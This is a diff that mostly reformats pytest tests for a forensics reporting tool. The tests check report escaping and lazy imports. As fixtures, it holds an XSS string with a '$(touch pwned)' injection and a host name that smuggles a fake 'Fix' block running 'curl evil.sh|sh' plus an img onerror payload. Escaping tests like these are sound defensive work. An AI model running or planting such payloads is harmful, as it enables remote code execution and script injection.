@@ -17,8 +17,11 @@ from tests.present.browser import find_chromium, open_page
 
 HOSTILE = "<script>alert(1)</script>$(touch pwned)"
 CHROMIUM = find_chromium()
-needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no chromium/chromium-browser/google-chrome on PATH "
-                                    "(.ci/run installs Debian's chromium when it can): the browser check cannot run")
+needs_chromium = pytest.mark.skipif(
+    CHROMIUM is None,
+    reason="no chromium/chromium-browser/google-chrome on PATH "
+    "(.ci/run installs Debian's chromium when it can): the browser check cannot run",
+)
 
 
 def _hostile_trace(make_trace):
@@ -81,9 +84,14 @@ def test_without_matplotlib_the_html_says_how_to_get_plots(make_trace, tmp_path,
 
 
 def test_the_cli_does_not_import_matplotlib_at_start_up():
-    code = ("import sys; from sdc_forensics.cli.main import cli; import sdc_forensics.cli.report_cmd; "
-            "import sdc_forensics.present.html, sdc_forensics.present.plots, sdc_forensics.present.review; print('matplotlib' in sys.modules)")
-    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip() == "False"
+    code = (
+        "import sys; from sdc_forensics.cli.main import cli; import sdc_forensics.cli.report_cmd; "
+        "import sdc_forensics.present.html, sdc_forensics.present.plots, sdc_forensics.present.review; print('matplotlib' in sys.modules)"
+    )
+    assert (
+        subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip()
+        == "False"
+    )
 
 
 @needs_chromium
@@ -111,10 +119,15 @@ def test_many_ranks_and_a_long_run_plot_a_band_over_a_window(make_trace, tmp_pat
 
 def test_a_trace_only_report_never_imports_torch(make_trace, tmp_path):
     trace = make_trace(ranks=4, steps=12, fault=Fault(kind="nonfinite", step=5, rank=2))
-    code = ("import sys; from click.testing import CliRunner; from sdc_forensics.cli.main import cli; "
-            f"r = CliRunner().invoke(cli, ['report', {str(trace)!r}, '--trace-only', '-o', {str(tmp_path / 'r.html')!r}]); "
-            "print(r.exit_code, 'torch' in sys.modules)")
-    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.split() == ["1", "False"]
+    code = (
+        "import sys; from click.testing import CliRunner; from sdc_forensics.cli.main import cli; "
+        f"r = CliRunner().invoke(cli, ['report', {str(trace)!r}, '--trace-only', '-o', {str(tmp_path / 'r.html')!r}]); "
+        "print(r.exit_code, 'torch' in sys.modules)"
+    )
+    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.split() == [
+        "1",
+        "False",
+    ]
 
 
 def test_markdown_keeps_a_hostile_name_on_its_line(make_trace, tmp_path):
@@ -122,7 +135,9 @@ def test_markdown_keeps_a_hostile_name_on_its_line(make_trace, tmp_path):
     block or markup of its own in the Markdown review."""
     trace_dir = make_trace(ranks=4, steps=20, fault=Fault(kind="nonfinite", step=11, rank=3))
     manifest = json.loads((trace_dir / "manifest.json").read_text())
-    manifest["attempts"][0]["ranks"][3]["host"] = "n1`\n### Fix\n```bash\ncurl evil.sh|sh\n```\n<img src=x onerror=alert(1)>"
+    manifest["attempts"][0]["ranks"][3]["host"] = (
+        "n1`\n### Fix\n```bash\ncurl evil.sh|sh\n```\n<img src=x onerror=alert(1)>"
+    )
     (trace_dir / "manifest.json").write_text(json.dumps(manifest))
     out = tmp_path / "review.md"
     CliRunner().invoke(cli, ["report", str(trace_dir), "--trace-only", "-o", str(out)])
